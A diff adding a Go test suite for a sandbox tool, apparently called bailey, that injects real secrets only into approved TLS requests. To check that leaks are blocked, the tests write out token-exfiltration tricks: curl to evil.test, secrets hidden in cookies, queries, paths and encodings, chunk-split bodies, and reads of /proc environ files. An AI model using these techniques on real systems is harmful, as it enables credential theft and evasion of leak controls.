@@ -1,0 +1,447 @@
+package spec_test
+
+import (
+	"crypto/rand"
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
+	"io"
+	"net/http"
+	"net/netip"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/bailey-dev/bailey"
+	"github.com/bailey-dev/bailey/internal/testkit/netlab"
+	"github.com/bailey-dev/bailey/internal/testkit/yard"
+)
+
+// secretWorld is a network whose hosts say what they were sent, and a vault.
+type secretWorld struct {
+	lab   *netlab.Lab
+	y     *yard.Yard
+	value string // of the secret demo, for allow.test
+
+	mu   sync.Mutex
+	last http.Header // of the latest request to any of its hosts
+	body string
+}
+
+// newValue is a value like a real one, and another each time.
+func newValue() string {
+	var b [18]byte
+	_, _ = rand.Read(b[:])
+	return "ghp_" + hex.EncodeToString(b[:])
+}
+
+// newSecretWorld makes the secret demo: header Authorization, Bearer, for
+// allow.test.
+func newSecretWorld(t *testing.T, y *yard.Yard) *secretWorld {
+	t.Helper()
+	w := &secretWorld{lab: netlab.New(t), y: y, value: newValue()}
+	w.lab.Trust()
+	w.lab.Name("two.test", netlab.Allowed)
+	y.Wrap = w.lab.Enter
+	for _, host := range []string{"allow.test", "www.allow.test", "two.test", "evil.test"} {
+		w.lab.Handle(host, http.HandlerFunc(w.answer))
+	}
+	w.set(t, "demo", w.value, "--host", "allow.test")
+	return w
+}
+
+// set stores a secret.
+func (w *secretWorld) set(t *testing.T, name, value string, flags ...string) {
+	t.Helper()
+	w.secret(t, value, append([]string{"set", name}, flags...)...).OK(t)
+}
+
+// secret runs a command of `bailey secret` with something on its input.
+func (w *secretWorld) secret(t *testing.T, input string, args ...string) yard.Result {
+	t.Helper()
+	return w.y.RunWith(t, func(c *exec.Cmd) { c.Stdin = strings.NewReader(input) }, append([]string{"secret"}, args...)...)
+}
+
+// answer echoes what was asked in several ways, by the path.
+func (w *secretWorld) answer(rw http.ResponseWriter, r *http.Request) {
+	body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
+	w.mu.Lock()
+	w.last, w.body = r.Header.Clone(), string(body)
+	w.mu.Unlock()
+	got := r.Header.Get("Authorization")
+	switch r.URL.Path {
+	case "/echo":
+		rw.Header().Set("X-Echo", got)
+		rw.Header().Set("Location", "/next?token="+strings.TrimPrefix(got, "Bearer "))
+		_, _ = fmt.Fprintln(rw, got, base64.StdEncoding.EncodeToString([]byte("a"+got)), hex.EncodeToString([]byte(got)), strings.ReplaceAll(got, "_", "%5F"), strings.ReplaceAll(got, "_", `\u005f`))
+	case "/slow":
+		f, _ := rw.(http.Flusher)
+		for i := range 200 {
+			_, _ = fmt.Fprintf(rw, "tick %d\n", i)
+			f.Flush()
+			select {
+			case <-r.Context().Done():
+				return
+			case <-time.After(100 * time.Millisecond):
+			}
+		}
+	default:
+		_, _ = fmt.Fprintf(rw, "%s %s by %s\n", r.Method, r.URL.Path, r.Proto)
+	}
+}
+
+// got is the header of the latest request.
+func (w *secretWorld) got(name string) string {
+	w.mu.Lock()
+	defer w.mu.Unlock()
+	return w.last.Get(name)
+}
+
+// arrived reports whether a value reached a server in anything but the header
+// Authorization of allow.test over TLS.
+func (w *secretWorld) arrived(value string) (rightly, wrongly int) {
+	for _, q := range w.lab.Requests() {
+		for name, list := range q.Header {
+			for _, v := range list {
+				switch {
+				case !strings.Contains(v, value):
+				case name == "Authorization" && q.Host == "allow.test" && q.TLS == "allow.test":
+					rightly++
+				default:
+					wrongly++
+				}
+			}
+		}
+		if strings.Contains(q.Path, value) {
+			wrongly++
+		}
+	}
+	return rightly, wrongly
+}
+
+func bearer(to string) string { return `curl -sS -H "Authorization: Bearer $DEMO" ` + to }
+
+// TestSEC01_PlaceholderInValueOut: inside is a placeholder of the same shape,
+// in every run another; the host of the rule gets the value, over HTTP/1.1 and
+// HTTP/2, after it proved its name.
+func TestSEC01_PlaceholderInValueOut(t *testing.T) {
+	t.Attr("claim", "SEC-01")
+	t.Parallel()
+	yard.Each(t, func(t *testing.T, y *yard.Yard) {
+		w := newSecretWorld(t, y)
+		seen := map[string]bool{}
+		for _, version := range []string{"--http1.1", "--http2"} {
+			r := y.Sh(t, `echo "$DEMO"; `+bearer(version+" https://allow.test/x"), "--secret", "demo", "--json").OK(t)
+			placeholder, answer, _ := strings.Cut(r.Stdout, "\n")
+			if !regexp.MustCompile(`^ghp_[0-9a-f]{36}$`).MatchString(placeholder) || placeholder == w.value || seen[placeholder] {
+				t.Errorf("the placeholder %q: want one of the value's shape, another than before", placeholder)
+			}
+			seen[placeholder] = true
+			if got := w.got("Authorization"); got != "Bearer "+w.value {
+				t.Errorf("%s: the host got another header than the value's (%d bytes): %s", version, len(got), answer)
+			}
+			uses := eventsOf(t, r, bailey.EventSecretUse)
+			if len(uses) != 1 || uses[0].Name != "demo" || !strings.HasPrefix(uses[0].Secret, "sec_") || uses[0].Host != "allow.test" || uses[0].Status != 200 || uses[0].Path != "/" {
+				t.Errorf("events of uses: %+v", uses)
+			}
+			if strings.Contains(r.Stdout+r.Stderr, w.value) {
+				t.Error("the value is in what the run printed")
+			}
+		}
+		r := y.Sh(t, `echo "$TOKEN"`, "--secret", "demo=TOKEN").OK(t)
+		if !strings.HasPrefix(r.Stdout, "ghp_") {
+			t.Errorf("--secret demo=TOKEN: %q", r.Stdout)
+		}
+		t.Run("a host that does not prove its name", func(t *testing.T) {
+			before, _ := w.arrived(w.value)
+			w.lab.Name("false.test", netlab.Allowed)
+			stranger(t, w.lab)
+			w.set(t, "fals", newValue(), "--host", "false.test:9443", "--var", "DEMO")
+			r := y.Sh(t, bearer("https://false.test:9443/x"), "--secret", "fals")
+			if !strings.Contains(r.Stdout, "bad-certificate") {
+				t.Errorf("answer %q\n%s", r.Stdout, r.Stderr)
+			}
+			if after, _ := w.arrived(w.value); after != before {
+				t.Error("a request arrived")
+			}
+		})
+		if n, wrongly := w.arrived(w.value); n < 2 || wrongly > 0 {
+			t.Errorf("the value arrived %d times where it may, %d times elsewhere", n, wrongly)
+		}
+	})
+}
+
+// stranger serves TLS at allowed:9443 with a certificate that nobody trusts.
+func stranger(t *testing.T, lab *netlab.Lab) {
+	t.Helper()
+	other := netlab.NewCA(t)
+	ln := lab.Listen(netip.AddrPortFrom(netlab.Allowed, 9443).String())
+	srv := &http.Server{Handler: http.NotFoundHandler(), TLSConfig: other.ServerConfig("http/1.1"), ReadHeaderTimeout: time.Minute}
+	go func() { _ = srv.ServeTLS(ln, "", "") }()
+	t.Cleanup(func() { _ = srv.Close() })
+}
+
+func eventsOf(t *testing.T, r yard.Result, kind bailey.EventType) []bailey.Event {
+	t.Helper()
+	return slices.DeleteFunc(events(t, r.Stderr), func(e bailey.Event) bool { return e.Type != kind })
+}
+
+// TestSEC02_NeverOverPlainHTTP: TLS is opened for the hosts of a secret alone,
+// and a value never travels without it (B004).
+func TestSEC02_NeverOverPlainHTTP(t *testing.T) {
+	t.Attr("claim", "SEC-02")
+	t.Parallel()
+	yard.Each(t, func(t *testing.T, y *yard.Yard) {
+		w := newSecretWorld(t, y)
+		r := y.Sh(t, bearer("http://allow.test/x")+`; echo; curl -sS http://allow.test/clean; curl -sSv https://www.allow.test/ 2>&1 | grep -c 'bailey root of sandbox'; curl -sSv https://allow.test/ 2>&1 | grep -c 'bailey root of sandbox'`,
+			"--secret", "demo", "--allow", "allow.test:80", "--allow", "www.allow.test")
+		for _, want := range []string{"secret-plain-http", "GET /clean by HTTP/1.1\n", "\n0\n1\n"} {
+			if !strings.Contains(r.Stdout, want) {
+				t.Errorf("want %q in %s\n%s", want, r.Stdout, r.Stderr)
+			}
+		}
+		if rightly, wrongly := w.arrived(w.value); rightly+wrongly > 0 {
+			t.Errorf("the value arrived: %d, %d", rightly, wrongly)
+		}
+	})
+}
+
+// TestSEC03_PlaceholderElsewhereIsRefused: other hosts, other places, other
+// encodings; where bailey cannot see it is worthless.
+func TestSEC03_PlaceholderElsewhereIsRefused(t *testing.T) {
+	t.Attr("claim", "SEC-03")
+	t.Parallel()
+	yard.Each(t, func(t *testing.T, y *yard.Yard) {
+		w := newSecretWorld(t, y)
+		other := newValue()
+		w.set(t, "second", other, "--host", "two.test")
+		userPolicy(t, y, "net:\n  allow:\n  - {host: www.allow.test, inspect: true}\n  - evil.test\n")
+		split := `python3 - <<'END'
+import os, socket, ssl
+s = ssl.create_default_context().wrap_socket(socket.create_connection(("allow.test", 443)), server_hostname="allow.test")
+p = os.environ["DEMO"].encode()
+s.sendall(b"POST /body HTTP/1.1\r\nHost: allow.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n")
+for b in p: s.sendall(b"1\r\n%c\r\n" % b)
+s.sendall(b"0\r\n\r\n")
+print(s.recv(65536).decode())
+END`
+		for _, c := range []struct{ name, script, want string }{
+			{"B001 an inspected host", bearer("https://www.allow.test/"), "secret-wrong-host"},
+			{"B001 plain HTTP to another host", bearer("http://evil.test/"), "secret-plain-http"},
+			{"B006 another secret's host", bearer("https://two.test/"), "secret-wrong-host"},
+			{"B017 a cookie", `curl -sS -b "t=$DEMO" https://allow.test/`, "secret-misplaced"},
+			{"B017 the user agent", `curl -sS -A "$DEMO" https://allow.test/`, "secret-misplaced"},
+			{"B024 in a longer token", `curl -sS -H "Authorization: Bearer x${DEMO}y" https://allow.test/`, "secret-misplaced"},
+			{"B026 in the query", `curl -sS "https://allow.test/?t=$DEMO"`, "secret-misplaced"},
+			{"B026 in escapes", `curl -sS "https://allow.test/?t=$(printf %s "$DEMO" | sed 's/./&/g' | od -An -tx1 | tr -d ' \n' | sed 's/../%&/g')"`, "secret-misplaced"},
+			{"B025 as the user of Basic", `curl -sS -u "$DEMO:x" https://allow.test/`, "secret-misplaced"},
+			{"B029 in the escapes of JSON", `curl -sS --data-raw "{\"t\":\"$(printf %s "$DEMO" | od -An -tx1 | tr -d ' \n' | sed 's/../\\u00&/g')\"}" https://allow.test/`, "secret-misplaced"},
+			{"B030 in base64 in a body", `for pad in "" a ab; do curl -sS --data-raw "$(printf %s "$pad$DEMO" | base64 -w0)" https://allow.test/; done`, "secret-misplaced"},
+			{"B032 split over chunks", split, "secret-misplaced"},
+			{"B034 in the path", `curl -sS "https://allow.test/a/$DEMO/b"`, "secret-misplaced"},
+		} {
+			t.Run(c.name, func(t *testing.T) {
+				before := len(w.lab.Requests())
+				r := y.Sh(t, c.script, "--secret", "demo", "--secret", "second")
+				if !strings.Contains(r.Stdout, c.want) {
+					t.Errorf("want %s: %s\n%s", c.want, r.Stdout, r.Stderr)
+				}
+				for _, q := range w.lab.Requests()[before:] {
+					if strings.Contains(fmt.Sprint(q.Header, q.Path), w.value) {
+						t.Errorf("the value arrived: %s %s", q.Method, q.Host)
+					}
+				}
+			})
+		}
+		t.Run("a host that is passed on unseen gets a worthless one", func(t *testing.T) {
+			r := y.Sh(t, `echo "$DEMO"; `+bearer("https://evil.test/"), "--secret", "demo").OK(t)
+			placeholder, _, _ := strings.Cut(r.Stdout, "\n")
+			if got := w.got("Authorization"); got != "Bearer "+placeholder {
+				t.Errorf("evil.test got %d bytes, and not the placeholder", len(got))
+			}
+		})
+		t.Run("twins: the same without a placeholder", func(t *testing.T) {
+			r := y.Sh(t, `curl -sS -b t=x -A x -u u:x "https://allow.test/a?t=%41"; curl -sS --data-raw '{"t":"\u0041"}' https://allow.test/b; curl -sS -H 'Authorization: Bearer x' https://www.allow.test/c`, "--secret", "demo").OK(t)
+			if want := "GET /a by HTTP/2.0\nPOST /b by HTTP/2.0\nGET /c by HTTP/2.0\n"; r.Stdout != want {
+				t.Errorf("%q, want %q", r.Stdout, want)
+			}
+		})
+	})
+}
+
+// TestSEC04_ThePlaceIsPartOfTheRule: header, Basic, query key, cookie, path
+// prefix, method, port.
+func TestSEC04_ThePlaceIsPartOfTheRule(t *testing.T) {
+	t.Attr("claim", "SEC-04")
+	t.Parallel()
+	yard.Each(t, func(t *testing.T, y *yard.Yard) {
+		w := newSecretWorld(t, y)
+		basic, query, cookie, narrow := newValue(), newValue(), newValue(), newValue()
+		w.set(t, "basic", basic, "--host", "allow.test", "--basic", "x-access-token")
+		w.set(t, "query", query, "--host", "allow.test", "--query", "key")
+		w.set(t, "cookie", cookie, "--host", "allow.test", "--cookie", "session")
+		w.set(t, "narrow", narrow, "--host", "allow.test", "--header", "X-Api-Key", "--format", "{}", "--method", "GET", "--path", "/v1")
+		for _, c := range []struct{ name, secret, good, bad, reason string }{
+			{"Basic", "basic", `curl -sS -u "x-access-token:$BASIC" https://allow.test/y`, `curl -sS -H "Authorization: Bearer $BASIC" https://allow.test/n`, "secret-misplaced"},
+			{"query", "query", `curl -sS "https://allow.test/y?a=b&key=$QUERY"`, `curl -sS "https://allow.test/n?other=$QUERY"`, "secret-misplaced"},
+			{"cookie", "cookie", `curl -sS -b "a=b; session=$COOKIE" https://allow.test/y`, `curl -sS -b "other=$COOKIE" https://allow.test/n`, "secret-misplaced"},
+			{"path", "narrow", `curl -sS -H "X-Api-Key: $NARROW" https://allow.test/v1/y`, `curl -sS -H "X-Api-Key: $NARROW" https://allow.test/v11/n`, "secret-not-covered"},
+			{"method", "narrow", `curl -sS -H "X-Api-Key: $NARROW" https://allow.test/v1/y`, `curl -sS -X DELETE -H "X-Api-Key: $NARROW" https://allow.test/v1/n`, "secret-not-covered"},
+		} {
+			t.Run(c.name, func(t *testing.T) {
+				r := y.Sh(t, c.good+"; echo; "+c.bad, "--secret", c.secret)
+				if !strings.Contains(r.Stdout, "/y by HTTP/2.0") || !strings.Contains(r.Stdout, c.reason) || strings.Contains(r.Stdout, "/n by") {
+					t.Errorf("%s\n%s", r.Stdout, r.Stderr)
+				}
+			})
+		}
+		all := fmt.Sprint(w.lab.Requests())
+		for _, want := range []string{
+			"Basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+basic)), "/y?a=b&key=" + query, "a=b; session=" + cookie, "X-Api-Key:[" + narrow + "]",
+		} {
+			if !strings.Contains(all, want) {
+				t.Errorf("a value did not arrive in its place (%d bytes)", len(want))
+			}
+		}
+		t.Run("B005 another port of the host", func(t *testing.T) {
+			r := y.Sh(t, bearer("https://allow.test:8443/"), "--secret", "demo", "--allow", "allow.test:8443")
+			if n, wrongly := w.arrived(w.value); n+wrongly > 0 {
+				t.Errorf("arrived: %s", r.Stdout)
+			}
+		})
+		t.Run("B013 a redirect to another host", func(t *testing.T) {
+			w.lab.Handle("www.allow.test", http.RedirectHandler("https://two.test/", http.StatusTemporaryRedirect))
+			w.set(t, "moved", newValue(), "--host", "www.allow.test", "--var", "DEMO")
+			userPolicy(t, y, "net:\n  allow: [{host: two.test, inspect: true}]\n")
+			r := y.Sh(t, `curl -sSL --location-trusted -H "Authorization: Bearer $DEMO" https://www.allow.test/`, "--secret", "moved")
+			if !strings.Contains(r.Stdout, "secret-wrong-host") {
+				t.Errorf("%s\n%s", r.Stdout, r.Stderr)
+			}
+		})
+	})
+}
+
+// TestSEC07_EchoesAreTakenBack: what the host says of the value is the
+// placeholder again before the sandbox sees it.
+func TestSEC07_EchoesAreTakenBack(t *testing.T) {
+	t.Attr("claim", "SEC-07")
+	t.Parallel()
+	yard.Each(t, func(t *testing.T, y *yard.Yard) {
+		w := newSecretWorld(t, y)
+		for _, version := range []string{"--http1.1", "--http2"} {
+			r := y.Sh(t, `echo "$DEMO"; `+bearer("-i --compressed "+version+" https://allow.test/echo"), "--secret", "demo").OK(t)
+			if got := w.got("Authorization"); got != "Bearer "+w.value {
+				t.Fatalf("the host did not get the value: %s", r.Stdout)
+			}
+			placeholder, rest, _ := strings.Cut(r.Stdout, "\n")
+			for _, form := range []string{
+				w.value, hex.EncodeToString([]byte(w.value)), strings.ReplaceAll(w.value, "_", "%5F"), strings.ReplaceAll(w.value, "_", `\u005f`),
+				base64.StdEncoding.EncodeToString([]byte("aBearer " + w.value)),
+			} {
+				if strings.Contains(rest, form) {
+					t.Errorf("%s: the value came back: %s", version, form)
+				}
+			}
+			for _, form := range []string{
+				"Bearer " + placeholder + " ", "token=" + placeholder, hex.EncodeToString([]byte("Bearer " + placeholder)),
+				base64.StdEncoding.EncodeToString([]byte("aBearer " + placeholder)),
+			} {
+				if !strings.Contains(rest, form) {
+					t.Errorf("%s: want %q in\n%s", version, form, rest)
+				}
+			}
+		}
+	})
+}
+
+// TestSEC01_LifeOfASecret: what is rotated, changed or withdrawn on the host is
+// so in a running sandbox within a second, on connections that are open too.
+func TestSEC01_LifeOfASecret(t *testing.T) {
+	t.Attr("claim", "SEC-01")
+	t.Parallel()
+	yard.Each(t, func(t *testing.T, y *yard.Yard) {
+		w := newSecretWorld(t, y)
+		box := y.Start(t, "run", "--json", "--name", "life", "--secret", "demo", "--", "sh", "-c",
+			`while :; do curl -sS -o /dev/null -H "Authorization: Bearer $DEMO" https://allow.test/x; sleep 0.1; done & while :; do curl -sS -N -H "Authorization: Bearer $DEMO" https://allow.test/slow && echo whole; echo again; sleep 0.3; done`)
+		defer func() { y.Run(t, "stop", "life") }()
+		box.Await(t, "tick 3")
+		next := newValue()
+		w.secret(t, next, "rotate", "demo").OK(t)
+		yard.Eventually(t, 3*time.Second, func() bool { return w.got("Authorization") == "Bearer "+next }, func() string { return "the new value does not arrive" })
+		yard.Eventually(t, 3*time.Second, func() bool { out, _ := box.Output(); return strings.Contains(out, "again") }, func() string {
+			return "an answer that was under way with the old value goes on"
+		})
+		w.secret(t, "", "rm", "demo").OK(t)
+		yard.Eventually(t, 3*time.Second, func() bool {
+			_, stderr := box.Output()
+			return strings.Contains(stderr, "secret-withdrawn")
+		}, func() string { return "a secret that is gone is still lent" })
+		before := len(w.lab.Requests())
+		time.Sleep(500 * time.Millisecond) // in which nothing may arrive
+		for _, q := range w.lab.Requests()[before:] {
+			if q.Header.Get("Authorization") != "" {
+				t.Error("a request arrived after the secret was gone")
+			}
+		}
+	})
+}
+
+// TestSEC06_NoInterfaceGivesAValueBack: the value is searched for in all that
+// bailey prints, keeps and runs, where a placeholder is found.
+func TestSEC06_NoInterfaceGivesAValueBack(t *testing.T) {
+	t.Attr("claim", "SEC-06")
+	t.Parallel()
+	yard.Each(t, func(t *testing.T, y *yard.Yard) {
+		w := newSecretWorld(t, y)
+		printed := ""
+		say := func(r yard.Result) { printed += r.Stdout + r.Stderr }
+		say(w.secret(t, w.value, "set", "demo", "--host", "allow.test"))            // exists
+		say(w.secret(t, w.value, "set", "bad", "--host", "*"))                      // refused
+		say(w.secret(t, w.value+"\n\x00", "set", "bad", "--host", "a.test"))        // refused
+		say(w.secret(t, "x"+w.value, "edit", "demo", "--host", "b.test"))           // not the value
+		for _, args := range [][]string{{"ls"}, {"ls", "--json"}, {"show", "demo"}, {"show", "demo", "--json"}, {"check"}, {"export", "-"}} {
+			say(w.secret(t, "", args...))
+		}
+		box := y.Start(t, "run", "--json", "--name", "held", "--secret", "demo", "--", "sh", "-c", bearer("https://allow.test/echo")+`; echo "$DEMO"; echo ready; exec cat`)
+		box.Await(t, "ready")
+		if w.got("Authorization") != "Bearer "+w.value {
+			t.Fatal("the value did not arrive")
+		}
+		out, stderr := box.Output()
+		printed += out + stderr
+		for _, args := range [][]string{{"ps", "--json"}, {"net", "log"}, {"net", "log", "--json"}, {"net", "why", "allow.test"}, {"policy", "show", "--json"}, {"doctor", "--live", "held"}} {
+			say(y.Run(t, args...))
+		}
+		// What any process of bailey's shows of itself, to root.
+		procs := processesWith(t, "BAILEY", y)
+		_ = procs
+		for _, file := range []string{"environ", "cmdline"} {
+			found, _ := filepath.Glob("/proc/[0-9]*/" + file)
+			for _, path := range found {
+				if b := readAll(path); strings.Contains(b, w.value) {
+					t.Errorf("the value is in %s", path)
+				}
+			}
+		}
+		inside := y.Run(t, "exec", "held", "--", "sh", "-c", `cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n'; grep -rhs DEMO /etc /home /tmp /run 2>/dev/null; true`)
+		printed += inside.Stdout
+		y.Run(t, "stop", "held")
+		box.Wait(t, time.Minute)
+		if strings.Contains(printed, w.value) {
+			t.Error("the value was printed")
+		}
+		if !strings.Contains(printed, "ghp_") {
+			t.Error("the twin: no placeholder was printed")
+		}
+		for _, dir := range []string{y.Home, y.Dir, filepath.Dir(y.Home)} {
+			if out, err := exec.Command("grep", "-rlF", "--devices=skip", w.value, dir).Output(); err == nil {
+				t.Errorf("the value is in files: %s", out)
+			}
+		}
+	})
+}
